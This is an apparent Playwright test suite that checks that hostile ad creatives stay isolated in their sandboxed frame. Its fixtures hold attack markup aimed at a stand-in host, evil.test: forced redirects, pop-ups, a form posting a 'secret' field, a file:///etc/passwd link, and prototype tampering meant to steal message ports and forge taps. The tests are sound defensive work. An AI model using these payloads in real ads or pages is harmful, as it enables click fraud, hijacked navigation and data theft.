"""The isolation of creatives: a hostile creative stores nothing and opens no other page, whatever it tries."""

import json

import pytest
from ads_app import VIEW, ad_response, until
from playwright.sync_api import expect

EVIL = "https://evil.test"


@pytest.fixture
def hostile(ad, context):
    """Shows a hostile creative and records every request and dialog of its page."""
    asked, dialogs = [], []

    def answer_for(route):
        asked.append(route.request.url)
        route.fulfill(status=200, content_type="text/html", body="<h1>Elsewhere</h1>")

    context.route("https://*.test/**", answer_for)
    context.route("http://*.test/**", answer_for)

    def run(markup, show=True, **ext):
        page = ad()
        page.page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        page.asked, page.dialogs = asked, dialogs
        if show:
            page.show(ad_response(f"<p id=mark>Creative</p>{markup}", width=320, height=250, **ext))
            page.app.event("shown")
        return page

    return run


def creative_frame(page):
    """The frame of the creative's document."""
    return page.page.locator("iframe[data-ad-frame]").element_handle().content_frame()


def assert_nothing_opened(page):
    """Fails if the app's page changed, another page exists, or there was a dialog, an opened link or a request to `EVIL`."""
    assert page.page.url == page.app.surface
    assert len(page.page.context.pages) == 1
    assert page.app.opened() == [] and page.dialogs == []
    assert [url for url in page.asked if url.startswith(EVIL)] == []


def test_a_creative_shows_no_dialog(hostile):
    page = hostile(
        "<script>window.said = [alert('a'), confirm('b'), prompt('c')]; print();"
        "addEventListener('beforeunload', event => event.preventDefault());</script>"
    )
    page.settle()
    assert creative_frame(page).evaluate("() => said") == [None, False, None]
    assert_nothing_opened(page)


def test_a_creative_stores_nothing(hostile, context):
    page = hostile("")
    kept = creative_frame(page).evaluate(
        """async () => {
          const tries = {
            local: () => localStorage.setItem('x', '1'), session: () => sessionStorage.setItem('x', '1'),
            database: () => new Promise((done, fail) => { const r = indexedDB.open('x'); r.onsuccess = done; r.onerror = () => fail(r.error); }),
            caches: () => caches.open('x'), files: () => navigator.storage.getDirectory(),
            worker: () => navigator.serviceWorker.register('sw.js'), locks: () => navigator.locks.request('x', () => 1),
            storage: () => document.requestStorageAccess(),
          };
          document.cookie = 'x=1';
          const kept = document.cookie ? ['cookie'] : [];
          for (const [name, attempt] of Object.entries(tries)) {
            try { await attempt(); kept.push(name); } catch {}
          }
          return kept;
        }"""
    )
    assert kept == []
    assert context.cookies() == []
    assert_nothing_opened(page)


# Each tries to navigate without a tap. The ways of SELF navigate the creative's own frame, which ends the ad.
SELF = {
    "location": f"<script>location = '{EVIL}/'</script>",
    "replace": f"<script>location.replace('{EVIL}/')</script>",
    "late": f"<script>setTimeout(() => {{ location.href = '{EVIL}/' }}, 300)</script>",
    "refresh": f"<meta http-equiv=refresh content='0;url={EVIL}/'>",
    "data": "<script>location = 'data:text/html,<h1>Elsewhere</h1>'</script>",
    "blob": "<script>location = URL.createObjectURL(new Blob(['<h1>Elsewhere</h1>'], { type: 'text/html' }))</script>",
    "blank": "<script>setTimeout(() => { location = 'about:blank' }, 100)</script>",
}
ELSEWHERE = {
    "self-link": f"<a id=x href='{EVIL}/'>x</a><script>HTMLAnchorElement.prototype.click.call(x)</script>",
    "top": f"<script>try {{ top.location = '{EVIL}/' }} catch {{}}</script>",
    "parent": f"<script>try {{ parent.location.replace('{EVIL}/') }} catch {{}}</script>",
    "open": f"<script>window.open('{EVIL}/'); open('{EVIL}/', '_top')</script>",
    "inner-open": f"<iframe id=f></iframe><script>f.contentWindow.open('{EVIL}/', '_blank')</script>",
    "blank-link": f"<a id=x target=_blank href='{EVIL}/'>x</a><script>x.click()</script>",
    "top-link": f"<a id=x target=_top href='{EVIL}/'>x</a><script>x.click()</script>",
    "fake-tap": f"<a id=x href='{EVIL}/'>x</a><script>for (const kind of ['pointerdown', 'pointerup', 'click']) x.dispatchEvent(new PointerEvent(kind, {{ bubbles: true, cancelable: true }}))</script>",
    "form": f"<form id=x action='{EVIL}/' target=_top></form><script>x.submit(); x.requestSubmit()</script>",
    "form-post": f"<form id=x method=post action='{EVIL}/'></form><script>x.submit()</script>",
    "download": "<a id=x download=x.html href='data:text/html,x'>x</a><script>x.click()</script>",
    "refresh-inner": f"<iframe srcdoc=\"<script>top.location = '{EVIL}/'</script>\"></iframe>",
    "fullscreen": "<script>document.documentElement.requestFullscreen().catch(() => {})</script>",
    "plugin": f"<object data='{EVIL}/x.swf'></object><embed src='{EVIL}/x.pdf'><applet code='{EVIL}/x'></applet>",
    "worker": f"<script>try {{ new Worker('{EVIL}/w.js') }} catch {{}}</script>",
    "forged-line": f"""<script>
      const {{ port1, port2 }} = new MessageChannel();
      parent.postMessage({{ inlayAd: 'line' }}, '*', [port2]);
      for (const said of [{{ painted: true }}, {{ tap: true }}, {{ open: '{EVIL}/' }}]) port1.postMessage(said);
      parent.postMessage({{ tap: true, open: '{EVIL}/' }}, '*');
      parent.postMessage({{ inlayEnvironment: {{ colorScheme: 'dark' }} }}, '*');
    </script>""",
}


@pytest.mark.parametrize("way", SELF)
def test_a_creative_that_navigates_its_frame_without_a_tap_is_removed(hostile, way):
    page = hostile("", show=False)
    page.app.show(ad_response(f"<p id=mark>Creative</p>{SELF[way]}", width=320, height=250, close=20_000))
    # The ad ends before its close delay, and no click is counted.
    page.app.wait(lambda report: "left its frame" in report.get("event", ""))
    expect(page.ad).to_have_count(0)
    assert_nothing_opened(page)
    assert "clicked" not in page.app.events()


@pytest.mark.parametrize("way", ELSEWHERE)
def test_a_creative_opens_no_other_page_without_a_tap(hostile, way):
    page = hostile(ELSEWHERE[way])
    page.settle()
    expect(page.frame.locator("#mark")).to_be_visible()
    assert_nothing_opened(page)
    assert not [url for url in page.asked if "evil.test" in url]


def test_a_tap_that_navigates_the_frame_loads_the_creative_again(hostile):
    page = hostile(f"<button id=go onclick=\"location = '{EVIL}/'\">Go</button>")
    page.page.evaluate("() => { document.querySelector('iframe[data-ad-frame]').isFirst = true }")
    page.frame.locator("#go").click()
    # The creative is shown again, in a new frame.
    page.page.wait_for_function("() => !document.querySelector('iframe[data-ad-frame]').isFirst")
    expect(page.frame.locator("#mark")).to_be_visible()
    page.app.until_called(VIEW)
    page.settle()
    assert_nothing_opened(page)
    assert page.app.called(VIEW) == [VIEW]


@pytest.mark.parametrize("target", ["", "target=_top", "target=_self", "target=_blank", "target=other"])
def test_a_tapped_link_goes_to_the_browser_and_never_anywhere_else(hostile, target):
    page = hostile(f"<a id=go {target} href='{EVIL}/offer'>Go</a>")
    page.frame.locator("#go").click()
    page.app.wait(lambda report: report.get("opened") == f"{EVIL}/offer")
    page.settle()
    expect(page.frame.locator("#mark")).to_be_visible()
    assert page.page.url == page.app.surface and len(page.page.context.pages) == 1
    assert page.asked == []


def test_a_tap_allows_a_link_for_one_second(hostile):
    page = hostile(f"<button id=go onclick=\"setTimeout(() => {{ window.open('{EVIL}/late'); window.tried = true }}, 1600)\">Go</button>")
    page.frame.locator("#go").click()
    creative_frame(page).wait_for_function("() => window.tried")
    page.settle()
    assert_nothing_opened(page)


@pytest.mark.parametrize("address", ["javascript:parent.hit=1", "data:text/html,x", "mailto:a@b.test", "tel:1",
                                     "itms-apps://x", "intent://x#Intent;end", "file:///etc/passwd", "about:blank"])
def test_a_tap_opens_nothing_but_the_web(hostile, address):
    page = hostile(f"<a id=go href='{address}'>Go</a>")
    page.frame.locator("#go").click()
    page.settle()
    expect(page.frame.locator("#mark")).to_be_visible()
    assert_nothing_opened(page)


BASE = "<base href='https://www.example.com/shop/index.html'>"


@pytest.mark.parametrize(("base", "address", "opened"), [
    ("", "//www.example.com/x?a=%20b", "https://www.example.com/x?a=%20b"),
    (BASE, "//www.example.com/x", "https://www.example.com/x"),
    (BASE, "offer 1?a=%20b&c={d}|e", "https://www.example.com/shop/offer%201?a=%20b&c=%7Bd%7D%7Ce"),
    (BASE, "/offer", "https://www.example.com/offer"),
])
def test_a_link_is_resolved_against_the_creative_s_base(hostile, base, address, opened):
    page = hostile(f"{base}<a id=go href='{address}'>Go</a>")
    page.frame.locator("#go").click()
    page.app.wait(lambda report: report.get("opened") == opened)
    page.settle()
    assert page.app.opened() == [opened]


@pytest.mark.parametrize("address", ["/offer", "offer", "?x", "", pytest.param(f"{EVIL}/{'x' * 5000}", id="too long")])
def test_a_link_that_leads_nowhere_opens_nothing(hostile, address):
    page = hostile(f"<a id=go href='{address}'>Go</a>")
    page.frame.locator("#go").click()
    page.settle()
    expect(page.frame.locator("#mark")).to_be_visible()
    assert_nothing_opened(page)


def test_a_form_that_a_user_sends_makes_no_request(hostile):
    page = hostile(f"<form action='{EVIL}/' method=post><input name=a value=secret><button id=go>Send</button></form>")
    page.frame.locator("#go").click()
    page.settle()
    expect(page.frame.locator("#mark")).to_be_visible()
    assert_nothing_opened(page)


def test_no_device_permission_is_granted(hostile, context):
    context.grant_permissions(["geolocation", "camera", "microphone", "clipboard-read"])
    page = hostile("")
    granted = creative_frame(page).evaluate(
        """async () => {
          const tries = {
            place: () => new Promise((done, fail) => navigator.geolocation.getCurrentPosition(done, fail)),
            camera: () => navigator.mediaDevices.getUserMedia({ video: true }),
            sound: () => navigator.mediaDevices.getUserMedia({ audio: true }),
            screen: () => navigator.mediaDevices.getDisplayMedia(), clipboard: () => navigator.clipboard.readText(),
            write: () => navigator.clipboard.writeText('x'), awake: () => navigator.wakeLock.request(),
            bluetooth: () => navigator.bluetooth.requestDevice({ acceptAllDevices: true }),
            usb: () => navigator.usb.requestDevice({ filters: [] }), midi: () => navigator.requestMIDIAccess(),
            pointer: () => document.body.requestPointerLock(), share: () => navigator.share({ url: 'https://a.test' }),
            notice: async () => { if (await Notification.requestPermission() !== 'granted') throw 0; },
          };
          const granted = [];
          for (const [name, attempt] of Object.entries(tries)) {
            try { await attempt(); granted.push(name); } catch {}
          }
          return granted;
        }"""
    )
    assert granted == []
    assert_nothing_opened(page)


# Each way makes a frame with the script REPORTER, which reports the WebRTC interfaces that it finds.
REPORTER = "<script>parent.postMessage({ way: 'WAY', peers: Object.getOwnPropertyNames(self).filter(name => /RTC/.test(name)) }, '*')</script>"
INNER = {
    "property": "const f = document.createElement('iframe'); f.srcdoc = markup; document.body.append(f)",
    "attribute": "const f = document.createElement('iframe'); document.body.append(f); f.setAttribute('srcdoc', markup)",
    "markup": "const d = document.createElement('div'); document.body.append(d); d.innerHTML = `<p><iframe srcdoc=\"${quoted}\"></iframe>`",
    "sandboxed": "const f = document.createElement('iframe'); f.sandbox = 'allow-scripts'; f.srcdoc = markup; document.body.append(f)",
    "clone": "const f = document.createElement('iframe'); f.srcdoc = markup; document.body.append(f.cloneNode())",
    "open-shadow": "const d = document.createElement('div'); document.body.append(d); d.attachShadow({ mode: 'open' }).innerHTML = `<iframe srcdoc=\"${quoted}\"></iframe>`",
    "closed-shadow": "const d = document.createElement('div'); document.body.append(d); d.attachShadow({ mode: 'closed' }).innerHTML = `<iframe srcdoc=\"${quoted}\"></iframe>`",
    "declared-shadow": "const d = document.createElement('div'); document.body.append(d); d.setHTMLUnsafe(`<div><template shadowrootmode=open><iframe srcdoc=\"${quoted}\"></iframe></template></div>`)",
    "parser": None,
    "frame-in-frame": None,
}


def framed(markup):
    quoted = markup.replace("&", "&amp;").replace('"', "&quot;")
    return f'<iframe srcdoc="{quoted}"></iframe>'


def test_no_peer_connection_can_be_opened_in_a_creative_or_its_frames(hostile):
    ways = "".join(f"{{ const way = '{way}', markup = reporter.replace('WAY', way), quoted = markup; {make} }}\n"
                   for way, make in INNER.items() if make)
    nested = framed(framed(REPORTER.replace("WAY", "frame-in-frame").replace("parent.", "parent.parent.")))
    # Escaped, so that the end tag in this string does not end the script around it.
    reporter = json.dumps(REPORTER).replace("</script>", "<\\/script>")
    page = hostile(f"""<script>
        window.heard = {{}};
        addEventListener('message', event => {{ if (event.data?.way) heard[event.data.way] = event.data.peers }});
      </script>{framed(REPORTER.replace('WAY', 'parser'))}{nested}<script>const reporter = {reporter};
      addEventListener('load', () => {{ {ways} }});</script>""")
    frame = creative_frame(page)
    assert frame.evaluate("() => Object.getOwnPropertyNames(self).filter(name => /RTC/.test(name))") == []
    assert frame.evaluate("() => [typeof RTCPeerConnection, typeof webkitRTCPeerConnection, typeof RTCDataChannel]") == ["undefined"] * 3
    frame.wait_for_function(f"() => Object.keys(heard).length === {len(INNER)}")
    assert frame.evaluate("() => heard") == {way: [] for way in INNER}
    # The creative cannot reach into a frame without markup.
    assert frame.evaluate("""() => {
      const blank = document.createElement('iframe');
      document.body.append(blank);
      try { return typeof blank.contentWindow.RTCPeerConnection } catch { return 'out of reach' }
    }""") == "out of reach"
    assert_nothing_opened(page)


SITE = "https://cdn.test/frame.html"
# The creative records what the content security policy blocked in its document and in its frames.
NOTES = """<script>
  window.blocked = [];
  addEventListener('securitypolicyviolation', event => { blocked.push(event.effectiveDirective) });
  addEventListener('message', event => { if (event.data?.blocked) blocked.push(event.data.blocked) });
</script>"""
BLOCK_REPORTER = """<script>
  addEventListener('securitypolicyviolation', event => { parent.postMessage({ blocked: event.effectiveDirective }, '*') });
</script>"""
FOREIGN = {
    "markup": f'<iframe src="{SITE}"></iframe>',
    "script": f"<script>const f = document.createElement('iframe'); f.src = '{SITE}'; document.body.append(f)</script>",
    "navigation": f"<iframe></iframe><script>setTimeout(() => {{ frames[0].location = '{SITE}' }})</script>",
    "frame-in-frame": framed(f'{BLOCK_REPORTER}<iframe src="{SITE}"></iframe>'),
}


@pytest.mark.parametrize("way", FOREIGN)
def test_a_creative_has_no_frame_of_another_site_unless_the_unit_allows_it(hostile, way):
    page = hostile(NOTES + FOREIGN[way])
    creative_frame(page).wait_for_function("() => blocked.includes('frame-src')")
    page.settle()
    assert SITE not in page.asked
    assert_nothing_opened(page)
    page.close.click()
    expect(page.ad).to_have_count(0)
    page.show(ad_response(f"<p id=mark>Creative</p>{FOREIGN[way]}", width=320, height=250, frames=True))
    frame = page.frame.frame_locator("iframe")
    site = frame.frame_locator("iframe") if way == "frame-in-frame" else frame
    expect(site.get_by_text("Elsewhere")).to_be_visible()


# The requests of a creative and of its frames, by a scheme that each test inserts.
LOADS = """<img src="SCHEME://cdn.test/a.png"><script src="SCHEME://cdn.test/a.js"></script>
  <style>p { background: url(SCHEME://cdn.test/b.png) }</style><iframe src="SCHEME://cdn.test/frame.html"></iframe>
  <iframe srcdoc="<img src=SCHEME://cdn.test/inner.png>"></iframe>
  <script>fetch('SCHEME://cdn.test/fetched').catch(() => {}); fetch(new Request('SCHEME://cdn.test/request')).catch(() => {});
    const asks = new XMLHttpRequest(); asks.open('GET', 'SCHEME://cdn.test/asked'); asks.send(); new Image().src = 'SCHEME://cdn.test/pixel?x=1';
    navigator.sendBeacon('SCHEME://cdn.test/beacon', 'x')</script>"""


def test_a_creative_with_http_makes_the_same_calls_as_one_with_https(hostile):
    wanted = {"a.png", "a.js", "b.png", "frame.html", "inner.png", "fetched", "request", "asked", "pixel?x=1", "beacon"}
    page = hostile("", show=False)
    called = {}
    for scheme in ("https", "http"):
        page.asked.clear()
        page.show(ad_response(f"<p id=mark>Creative</p>{LOADS.replace('SCHEME', scheme)}", width=320, height=250, frames=True))
        page.app.event("shown")
        until(page.page, lambda: len(set(page.asked)) >= len(wanted))
        page.settle()
        called[scheme] = sorted(page.asked)
        page.close.click()
        expect(page.ad).to_have_count(0)
    assert {url.removeprefix("https://cdn.test/") for url in called["https"]} == wanted
    assert called["http"] == called["https"]


@pytest.mark.parametrize("markup, mode", [
    ("<div id=tall style='height:100%'>x</div>", "BackCompat"),
    ("<html><body><div id=tall style='height:100%'>x</div></body></html>", "BackCompat"),
    ("<!doctype html><div id=tall style='height:100%'>x</div>", "CSS1Compat"),
    ("\n<!-- made by a tool -->\n<!DOCTYPE HTML><html><div id=tall style='height:100%'>x</div></html>", "CSS1Compat"),
    ('<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 3.2 Final//EN"><div id=tall style="height:100%">x</div>', "BackCompat"),
])
def test_the_doctype_of_a_creative_decides_its_layout_mode(hostile, markup, mode):
    page = hostile("", show=False)
    page.show(ad_response(markup, width=320, height=250))
    frame = creative_frame(page)
    frame.wait_for_selector("#tall")
    assert frame.evaluate("() => document.compatMode") == mode
    height = "tall.getBoundingClientRect().height"
    frame.wait_for_function(f"() => innerHeight === 250 && {height} {'=== 250' if mode == 'BackCompat' else '< 50'}")
    # The creative is isolated in both modes.
    assert frame.evaluate("() => [self.origin, typeof RTCPeerConnection]") == ["null", "undefined"]


def test_the_app_s_page_is_out_of_reach(hostile):
    page = hostile("")
    reached = creative_frame(page).evaluate(
        """() => {
          const tries = [() => parent.document.body, () => parent.inlay, () => top.location.href,
            () => frameElement.src, () => parent.localStorage, () => parent.frames[0].document.body];
          return tries.map((attempt, index) => { try { return attempt() ? index : -1; } catch { return -1; } }).filter(x => x >= 0);
        }"""
    )
    # `parent.frames[0]` (5) is the creative's own frame.
    assert [index for index in reached if index != 5] == []
    assert "inlay" not in creative_frame(page).evaluate("() => Object.keys(window).join()")


def test_pictures_and_scripts_of_the_creative_load_over_https(hostile):
    page = hostile("<img src='https://cdn.test/a.png'><script src='https://cdn.test/a.js'></script><style>p { background: url(https://cdn.test/b.png) }</style>")
    until(page.page, lambda: len(set(page.asked)) >= 3)
    assert {"https://cdn.test/a.png", "https://cdn.test/a.js", "https://cdn.test/b.png"} <= set(page.asked)


# The host's script in the frame stores the built-in functions that it needs before the creative's scripts run. A later
# change of these functions must not give a creative the host's port or listeners, which report the user's taps.
STOLEN = """
  const stolen = [];
  const { get } = Object.getOwnPropertyDescriptor(MessageEvent.prototype, 'data');
  Object.defineProperty(MessageEvent.prototype, 'data', {
    configurable: true, get() { if (this.target instanceof MessagePort) stolen.push(this.target); return get.call(this); },
  });
  const listen = EventTarget.prototype.addEventListener;
  window.addEventListener = EventTarget.prototype.addEventListener = function (kind, listener, options) {
    stolen.push(listener);
    return listen.call(this, kind, listener, options);
  };
  Object.entries = value => { stolen.push(value); return []; };
  Function.prototype.bind = function () { stolen.push(this); return this; };
"""


def test_a_creative_that_changes_built_in_functions_cannot_fake_a_tap(hostile):
    page = hostile(f"<script>{STOLEN} window.stolen = stolen; setTimeout(() => {{ document.open(); document.write('<p id=mark>Anew</p><button id=go>Go</button>'); document.close(); }}, 200);</script>")
    expect(page.frame.locator("#mark")).to_have_text("Anew")
    # The page checks the creative's presence, and the user taps the creative, but no link.
    page.check_creative_presence()
    page.frame.locator("#go").click()
    page.page.evaluate("() => { window.tappedAt = performance.now() }")
    forged = creative_frame(page).evaluate(f"""() => {{
      for (const thing of stolen) {{
        try {{ if (thing instanceof MessagePort) {{ thing.postMessage({{ tap: true }}); thing.postMessage({{ open: '{EVIL}/' }}); }} }} catch {{}}
        try {{ if (typeof thing === 'function') thing({{ isTrusted: true, type: 'pointerup', composedPath: () => [] }}); }} catch {{}}
      }}
      window.open('{EVIL}/later');
      return stolen.filter(thing => thing instanceof MessagePort).length;
    }}""")
    assert forged == 0
    page.settle()
    # A creative may open one link after a real tap; the stolen objects must not open another.
    assert set(page.app.opened()) <= {f"{EVIL}/later"}
    # A tap allows links for one second only.
    page.page.wait_for_function("() => performance.now() - tappedAt > 1500")
    creative_frame(page).evaluate(f"() => {{ for (const thing of stolen) {{ try {{ thing({{ isTrusted: true, type: 'pointerup' }}) }} catch {{}} }} window.open('{EVIL}/forged') }}")
    page.settle()
    assert f"{EVIL}/forged" not in page.app.opened()


def test_a_creative_that_rewrites_its_document_stays_and_its_links_work(hostile):
    later = f"<script>setTimeout(() => {{ document.open(); document.write('<p id=mark>Anew</p><a id=go href=\"{EVIL}/offer\">Go</a>'); document.close(); }}, 200)</script>"
    page = hostile(later)
    expect(page.frame.locator("#mark")).to_have_text("Anew")
    page.check_creative_presence()
    page.frame.locator("#go").click()
    page.app.wait(lambda report: report.get("opened") == f"{EVIL}/offer")
    expect(page.frame.locator("#mark")).to_have_text("Anew")
